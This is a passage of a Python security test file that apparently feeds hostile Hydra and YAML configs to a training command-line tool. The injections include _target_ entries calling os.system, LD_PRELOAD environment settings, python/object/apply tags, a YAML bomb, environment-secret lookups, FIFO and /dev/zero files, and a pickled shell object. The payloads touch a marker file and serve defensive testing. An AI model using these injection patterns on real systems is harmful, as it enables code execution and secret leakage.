    commands = picture_folder(lambda path: path.symlink_to("/dev/zero"))
    os.mkfifo("pictures/b/pipe.png")
    return [*commands, ["predict", "completed", "pictures/b/pipe.png"]]


# ---------------------------------------------------------------------------------------------- folders of configs


def theirs(file: str, text: str) -> Path:
    path = Path("theirs", file)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


CALLBACK = f"{{_target_: io.open, file: {MARKER}, mode: w}}"  # a target that Hydra's own list of bad ones does not have
CONFIG_DIR = ["--config-dir", "theirs"]


@artefact
def a_target_in_a_model_s_options(folder: Path) -> Commands:
    theirs("model/evil.yaml", f"kind: mlp\nwidths: [4]\ndropout: {{_target_: os.system, command: touch {MARKER}}}\n")
    words = ["train", "model=evil", "epochs=1", *CONFIG_DIR]
    return [words, [*words, "-m"]]


@artefact
def callbacks_of_hydra_in_an_experiment(folder: Path) -> Commands:
    theirs("experiment/evil.yaml", f"# @package _global_\nhydra:\n  callbacks:\n    x: {CALLBACK}\n")
    words = ["train", "experiment=evil", "epochs=1", "model=cnn_tiny", *CONFIG_DIR]
    return [[*words, "-m"], [*words, "--cfg", "job"], [*words, "--info", "config"]]


@artefact
def a_launcher_in_an_experiment(folder: Path) -> Commands:
    lines = [f"hydra:\n  {key}: {CALLBACK}\n" for key in ("launcher", "sweeper")]
    commands: Commands = []
    for number, line in enumerate(lines):
        theirs(f"experiment/evil{number}.yaml", f"# @package _global_\n{line}")
        commands.append(["train", f"experiment=evil{number}", "epochs=1", "model=cnn_tiny", *CONFIG_DIR, "-m"])
    return commands


@artefact
def a_logging_handler_in_an_experiment(folder: Path) -> Commands:
    handler = f"{{(): os.system, command: touch {MARKER}}}"
    logging = f"{{version: 1, handlers: {{x: {handler}}}, root: {{handlers: [x]}}}}"
    theirs("experiment/evil.yaml", f"# @package _global_\nhydra:\n  job_logging: {logging}\n")
    theirs("hydra/job_logging/none.yaml", f"version: 1\nhandlers: {{x: {handler}}}\nroot: {{handlers: [x]}}\n")
    words = ["train", "epochs=1", "model=cnn_tiny"]
    return [[*words, "experiment=evil", *CONFIG_DIR, "-m"], [*words, "hydra/job_logging=none", *CONFIG_DIR, "-m"]]


@artefact
def an_environment_for_the_processes_of_an_experiment(folder: Path) -> Commands:
    theirs("experiment/evil.yaml", "# @package _global_\nhydra:\n  job:\n    env_set: {LD_PRELOAD: ./evil.so}\n")
    return [["train", "experiment=evil", "epochs=1", "model=cnn_tiny", *CONFIG_DIR, "-m"]]


@artefact
def a_package_line_into_hydra(folder: Path) -> Commands:
    theirs("model/evil.yaml", f"# @package hydra.callbacks\nx: {CALLBACK}\n")
    theirs("experiment/evil.yaml", "# @package _global_\ndefaults:\n  - /model@hydra.callbacks: evil\n")
    words = ["train", "epochs=1", *CONFIG_DIR]
    return [["train", "model=evil", "epochs=1", *CONFIG_DIR, "-m"], ["train", "experiment=evil", *words[1:], "-m"]]


@artefact
def a_search_path_into_somebody_else_s_package(folder: Path) -> Commands:
    Path("hostile_plugin").mkdir()
    Path("hostile_plugin/__init__.py").write_text(f"open({MARKER!r}, 'w')\n")
    text = Path(__file__).resolve().parents[2].joinpath("conf", "train.yaml").read_text()
    theirs("train.yaml", f"{text}\nhydra:\n  searchpath: [pkg://hostile_plugin]\n")
    theirs("experiment/evil.yaml", "# @package _global_\nhydra:\n  searchpath: [pkg://hostile_plugin]\n")
    words = ["train", "experiment=evil", "epochs=1", "model=cnn_tiny", *CONFIG_DIR]
    return [words, [*words, "-m"]]


@artefact
def a_python_object_in_an_option(folder: Path) -> Commands:
    theirs("model/evil.yaml", f"kind: mlp\nwidths: !!python/object/apply:os.system ['touch {MARKER}']\ndropout: 0.0\n")
    words = ["train", "model=evil", "epochs=1", *CONFIG_DIR]
    return [words, [*words, "-m"]]


@artefact
def a_billion_laughs_in_an_option(folder: Path) -> Commands:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    theirs("model/evil.yaml", "\n".join([*lines, "kind: mlp", "widths: [4]", "dropout: 0.0", ""]))
    words = ["train", "model=evil", "epochs=1", *CONFIG_DIR]
    return [words, [*words, "-m"]]


@artefact
def an_environment_variable_in_an_option(folder: Path) -> Commands:
    theirs("model/evil.yaml", "kind: torchvision\nname: ${oc.env:PLANTED_SECRET}\nstem: auto\nmin_size: 32\n")
    words = ["train", "model=evil", "epochs=1", *CONFIG_DIR]
    return [words, [*words, "-m"]]


@harmless
def comments_that_write_to_the_terminal(folder: Path) -> Commands:
    theirs("model/evil.yaml", f"# {ESCAPE}\nkind: mlp\nwidths: [4]\ndropout: 0.0\n")
    return [["list", "models", "--config-dir", "theirs"]]


@artefact
def an_option_that_is_no_file(folder: Path) -> Commands:
    Path("theirs/model").mkdir(parents=True)
    os.mkfifo("theirs/model/pipe.yaml")
    Path("theirs/model/zero.yaml").symlink_to("/dev/zero")
    return [["list", "models", *CONFIG_DIR], ["train", "model=pipe", "epochs=1", *CONFIG_DIR]]


@artefact
def a_pickled_job_of_hydra(folder: Path) -> Commands:
    Path("job.pickle").write_bytes(pickle.dumps(SHELL))
    return [
        ["train", "--experimental-rerun", "job.pickle"],
        ["train", "--experimental-rerun=job.pickle"],
        ["train", "--cfg", "job", "--experimental-rerun=job.pickle"],
        ["train", "-m", "--experimental-re=job.pickle"],
        ["train", "--info", "config", "--exp", "job.pickle"],
    ]
